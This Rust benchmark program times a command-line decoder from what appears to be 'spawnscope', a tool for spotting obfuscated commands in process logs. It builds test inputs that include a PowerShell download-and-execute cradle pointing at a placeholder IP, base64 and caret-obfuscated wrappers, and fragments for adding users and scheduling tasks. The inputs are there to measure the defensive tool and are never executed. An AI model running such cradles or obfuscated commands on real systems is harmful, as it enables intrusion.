//! How many command lines a second the decoder reads on one core, and how long the worst takes.
//!
//! `bench_decode SAMPLES [CORPUS]`: `SAMPLES` is a folder of logs whose command lines are read,
//! `CORPUS` one of text files with a hostile line each (default `tests/data/decode/corpus`).

#![expect(clippy::print_stdout, reason = "the output of an example")]

use std::{
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use spawnscope::{
    decode::{Command, decode},
    ingest::{Options, Silent, load},
    model::{Process, Text},
    tree,
};

/// How long each table is read at least.
const MEASURED: Duration = Duration::from_secs(2);
/// Passes over a single hostile line; the quickest counts, since other programs run too.
const PASSES: u32 = 3;

struct Line {
    text: Text,
    image: Option<Text>,
    original: Option<Text>,
}

impl Line {
    fn plain(text: String) -> Self {
        Self { text: Text::from(text), image: None, original: None }
    }

    fn command(&self) -> Command<'_> {
        Command {
            text: &self.text,
            image: self.image.as_deref(),
            original_file_name: self.original.as_deref(),
        }
    }
}

fn main() {
    let mut arguments = std::env::args_os().skip(1).map(PathBuf::from);
    if let Some(samples) = arguments.next() {
        let lines = logged(&samples);
        let (hidden, ordinary): (Vec<_>, Vec<_>) =
            lines.into_iter().partition(|line| !decode(&line.command()).layers.is_empty());
        rate("ordinary lines of the samples", &ordinary);
        rate("lines of the samples with layers", &hidden);
    }
    rate("encoded lines, made", &encoded());
    let corpus = arguments.next().unwrap_or_else(|| PathBuf::from("tests/data/decode/corpus"));
    worst("hostile lines, made", &hostile());
    worst("hostile lines, found by fuzzing", &files(&corpus));
}

/// The command lines of all processes in some logs.
fn logged(folder: &Path) -> Vec<Line> {
    let options = Options { threads: 1, ..Options::default() };
    let loaded = load(&[folder.to_owned()], &options, &Silent);
    let processes = tree::build(&loaded.events).processes;
    let line = |process: Process| {
        let text = process.command_line?;
        Some(Line { text, image: process.image, original: process.original_file_name })
    };
    processes.into_iter().filter_map(line).collect()
}

fn encoded() -> Vec<Line> {
    let commands = [
        "whoami /all",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')",
        "$a='ipconfig';iex $a; Get-Process | Where-Object { $_.Name -eq 'lsass' }",
    ];
    let wrap = |text: &str| {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", STANDARD.encode(bytes))
    };
    commands
        .iter()
        .flat_map(|command| {
            let once = wrap(command);
            let twice = wrap(&once);
            let carets = format!("cmd.exe /c p^ow^ershell -nop -c \"{command}\"");
            [once, twice, carets].map(Line::plain)
        })
        .collect()
}

/// Lines of the longest form `CreateProcess` takes, each of one thing many times.
fn hostile() -> Vec<Line> {
    const SEEDS: &[&str] = &[
        "powershell ",
        "powershell -enc ",
        "\"powershell -enc ",
        "FromBase64String('",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YWFhYQ=='))+",
        "$a='b';",
        "$a+",
        "'a'+",
        "\"{0}{1}\" -f ",
        "[char]65+",
        "-join(",
        ".Replace('a','aa')",
        "('a'*99)",
        "^a",
        "%a:~0,1%",
        "!a:b=c!",
        "set a=b&",
        "for %a in (1) do ",
        "cmd /c ",
        "(((((",
        "{{{{{",
        "$(",
        "@'\n",
        "`",
        "\"C:\\",
        "http://a/))((",
        "http://-",
        "http://a@",
        "\\\\a\\b",
        "a.com ",
        "a@",
        "::1 ",
        "1.1.1.",
        "%A%\\",
        "net user a /add & ",
        "schtasks /create /tn a /tr b /sc minute;",
        "curl http://-/ & ",
        "iex ",
        "/user:a ",
        "[.]",
        "hxxp://a[.]b",
        "\u{FFFD}",
        "\0",
        "''\"\"",
    ];
    let line = |seed: &&str| Line::plain(seed.repeat(32_000 / seed.len()));
    let told =
        |seed: &&str| Line::plain(format!("powershell -c {}", seed.repeat(32_000 / seed.len())));
    SEEDS.iter().map(line).chain(SEEDS.iter().map(told)).collect()
}

fn files(folder: &Path) -> Vec<Line> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(folder)
        .into_iter()
        .flatten()
        .flatten()
        .map(|entry| entry.path())
        .collect();
    paths.sort();
    let read = |path: &PathBuf| std::fs::read(path).ok();
    let texts = paths.iter().filter_map(read);
    texts.map(|bytes| Line::plain(String::from_utf8_lossy(&bytes).into_owned())).collect()
}

/// The time this thread has had a core, where the system tells it, else the time that went by:
/// other programs on the machine must not count.
fn core_time(start: Instant) -> Duration {
    let told = std::fs::read_to_string("/proc/thread-self/schedstat").ok();
    let nanos = told.as_deref().and_then(|text| text.split(' ').next()?.parse().ok());
    nanos.map_or_else(|| start.elapsed(), Duration::from_nanos)
}

fn rate(name: &str, lines: &[Line]) {
    if lines.is_empty() {
        println!("{name}: none");
        return;
    }
    let bytes: usize = lines.iter().map(|line| line.text.len()).sum();
    let start = Instant::now();
    let before = core_time(start);
    let (mut count, mut found) = (0_usize, 0_usize);
    while core_time(start).saturating_sub(before) < MEASURED {
        for line in lines {
            found += decode(&line.command()).layers.len();
        }
        count += lines.len();
    }
    let secs = core_time(start).saturating_sub(before).as_secs_f64();
    println!(
        "{name}: {} lines of {} bytes on average, {:.0} lines/s, {:.1} MB/s, {} layers",
        lines.len(),
        bytes / lines.len(),
        count as f64 / secs,
        (bytes as f64 / lines.len() as f64) * count as f64 / secs / 1e6,
        found / (count / lines.len())
    );
}

/// The slowest lines, each by its quickest pass.
fn worst(name: &str, lines: &[Line]) {
    let mut times: Vec<(f64, &str)> = lines
        .iter()
        .map(|line| {
            let pass = || {
                let start = Instant::now();
                let before = core_time(start);
                drop(decode(&line.command()));
                core_time(start).saturating_sub(before).as_secs_f64() * 1e3
            };
            let best = (0..PASSES).map(|_| pass()).fold(f64::INFINITY, f64::min);
            (best, &*line.text)
        })
        .collect();
    times.sort_by(|left, right| right.0.total_cmp(&left.0));
    println!("{name}: {} lines; the slowest", lines.len());
    for (millis, text) in times.iter().take(5) {
        let head: String = text.chars().take(60).collect();
        println!("{millis:10.2} ms  {} bytes  {head:?}", text.len());
    }
}
